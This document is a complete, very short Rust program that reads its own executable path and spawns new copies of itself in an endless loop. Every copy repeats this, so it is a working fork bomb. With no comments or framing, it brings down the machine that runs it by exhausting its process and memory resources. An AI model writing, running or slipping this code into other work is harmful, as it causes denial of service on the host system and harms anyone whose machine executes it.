use std::process::Command;
fn main() {
    let me = std::env::current_exe().unwrap();
    loop {
        let _ = Command::new(&me).spawn();
    }
}
